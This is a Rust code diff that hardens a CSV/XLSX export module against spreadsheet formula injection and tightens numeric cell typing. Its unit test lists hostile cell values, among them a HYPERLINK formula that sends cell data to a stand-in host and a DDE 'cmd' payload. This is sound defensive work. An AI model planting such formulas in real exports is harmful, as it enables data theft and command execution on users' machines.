@@ -56,7 +56,7 @@ fn read_csv(bytes: &[u8]) -> Result<Table> {
         .headers()
         .map_err(malformed)?
         .iter()
-        .map(String::from)
+        .map(|h| as_typed(h.to_string()))
         .collect();
     // Line numbers as an editor shows them, counting breaks inside quoted fields too,
     // counted on from one record to the next.
@@ -91,7 +91,7 @@ fn read_csv(bytes: &[u8]) -> Result<Table> {
         }
         rows.push(TableRow {
             line: record.position().map(|p| line_of(p.byte())).unwrap_or(0),
-            cells: record.iter().map(String::from).collect(),
+            cells: record.iter().map(|c| as_typed(c.to_string())).collect(),
         });
     }
     Ok(Table {
@@ -149,17 +149,75 @@ fn malformed(e: csv::Error) -> Error {
     }
 }
 
-/// One sheet with a bold header row; cells that are numbers are written as numbers.
-/// Rows as CSV (UTF-8, comma-separated) under a header row.
+/// The first characters that make a spreadsheet read a CSV cell as a formula (OWASP's
+/// CSV injection advice, and NUL from the ASVS): `=HYPERLINK(…)` in a supplier name
+/// received from outside must not come back out of an export ready to run.
+const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];
+
+/// A cell as it is written to CSV: one that a spreadsheet would run as a formula gets a
+/// leading `'`, which spreadsheets show as text. A plain number (`-3.7`, `+31`) holds no
+/// formula and stays as it is, so that coordinates and amounts stay numbers.
+pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some(c) if FORMULA_STARTS.contains(&c) && !is_plain_number(cell) => {
+            std::borrow::Cow::Owned(format!("'{cell}"))
+        }
+        _ => std::borrow::Cow::Borrowed(cell),
+    }
+}
+
+/// A cell as read in: a neutralised cell (see [`neutralised`]) reads back as typed.
+pub fn as_typed(cell: String) -> String {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest.to_string(),
+        _ => cell,
+    }
+}
+
+/// An optional sign, digits, an optional fraction and an optional exponent, nothing else.
+fn is_plain_number(s: &str) -> bool {
+    let b = s.as_bytes();
+    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
+    let digits = |i: &mut usize| {
+        let start = *i;
+        while *i < b.len() && b[*i].is_ascii_digit() {
+            *i += 1;
+        }
+        *i > start
+    };
+    if !digits(&mut i) {
+        return false;
+    }
+    if b.get(i) == Some(&b'.') {
+        i += 1;
+        if !digits(&mut i) {
+            return false;
+        }
+    }
+    if matches!(b.get(i), Some(b'e' | b'E')) {
+        i += 1;
+        if matches!(b.get(i), Some(b'+' | b'-')) {
+            i += 1;
+        }
+        if !digits(&mut i) {
+            return false;
+        }
+    }
+    i == b.len()
+}
+
+/// Rows as CSV (UTF-8, comma-separated) under a header row; every cell neutralised.
 pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Result<String> {
     let io = |e: csv::Error| Error::Io {
         path: "csv".into(),
         detail: e.to_string(),
     };
     let mut w = csv::Writer::from_writer(Vec::new());
-    w.write_record(headers).map_err(io)?;
+    w.write_record(headers.iter().map(|h| neutralised(h).into_owned()))
+        .map_err(io)?;
     for row in rows {
-        w.write_record(row).map_err(io)?;
+        w.write_record(row.iter().map(|c| neutralised(c).into_owned()))
+            .map_err(io)?;
     }
     let bytes = w.into_inner().map_err(|e| Error::Io {
         path: "csv".into(),
@@ -168,6 +226,39 @@ pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Result<String> {
     Ok(String::from_utf8_lossy(&bytes).into_owned())
 }
 
+/// The columns of the exported tables that hold numbers (counts, amounts, scores,
+/// coordinates, record numbers); every other column is text, whatever it looks like.
+const NUMBER_COLUMNS: &[&str] = &[
+    "id",
+    "risk_id",
+    "action_id",
+    "audit_id",
+    "kpi_id",
+    "rank",
+    "override_position",
+    "report_year",
+    "severity",
+    "scale",
+    "scope",
+    "irremediability",
+    "likelihood",
+    "volume",
+    "value",
+    "baseline",
+    "target",
+    "spend_eur",
+    "budget_eur",
+    "people",
+    "cap_items",
+    "cap_items_done",
+    "lat",
+    "lng",
+    "tier",
+];
+
+/// One sheet with a bold header row. A cell is written as a number only in a number
+/// column and only when the number reads back as the same text; everything else is
+/// written as text, so that `+31201234567`, `0012` or `1e5` stay as they were typed.
 pub fn write_xlsx(sheet: &str, headers: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>> {
     let fail = |e: rust_xlsxwriter::XlsxError| Error::Io {
         path: "xlsx".into(),
@@ -181,19 +272,21 @@ pub fn write_xlsx(sheet: &str, headers: &[&str], rows: &[Vec<String>]) -> Result
         ws.write_string_with_format(0, c as u16, *h, &bold)
             .map_err(fail)?;
     }
+    let numeric: Vec<bool> = headers.iter().map(|h| NUMBER_COLUMNS.contains(h)).collect();
     for (r, row) in rows.iter().enumerate() {
         let r = r as u32 + 1;
         for (c, v) in row.iter().enumerate() {
             if v.is_empty() {
                 continue;
             }
-            // Codes with a leading zero (postcodes, phone numbers) stay text.
-            let leading_zero = v.len() > 1 && v.starts_with('0') && !v.starts_with("0.");
-            match v
-                .parse::<f64>()
-                .ok()
-                .filter(|n| n.is_finite() && !leading_zero)
-            {
+            let number = numeric
+                .get(c)
+                .copied()
+                .unwrap_or(false)
+                .then(|| v.parse::<f64>().ok())
+                .flatten()
+                .filter(|n| n.is_finite() && number_text(*n) == *v);
+            match number {
                 Some(n) => ws.write_number(r, c as u16, n).map_err(fail)?,
                 None => ws.write_string(r, c as u16, v).map_err(fail)?,
             };
@@ -202,4 +295,38 @@ pub fn write_xlsx(sheet: &str, headers: &[&str], rows: &[Vec<String>]) -> Result
     ws.set_freeze_panes(1, 0).map_err(fail)?;
     ws.autofit();
     book.save_to_buffer().map_err(fail)
+}
+
+/// A number as the XLSX reader writes it back (whole numbers without ".0").
+fn number_text(n: f64) -> String {
+    if n.fract() == 0.0 && n.abs() < 1e15 {
+        format!("{}", n as i64)
+    } else {
+        format!("{n}")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_neutralised_and_read_back_as_typed() {
+        for cell in [
+            "=HYPERLINK(\"http://x\"&B2,\"klik\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            let out = neutralised(cell);
+            assert_eq!(out, format!("'{cell}"), "{cell}");
+            assert_eq!(as_typed(out.into_owned()), cell);
+        }
+        for plain in ["-3.7", "+31201234567", "12", "1e5", "Fabriek", "'quote", ""] {
+            assert_eq!(neutralised(plain), plain, "{plain}");
+            assert_eq!(as_typed(plain.to_string()), plain);
+        }
+    }
 }
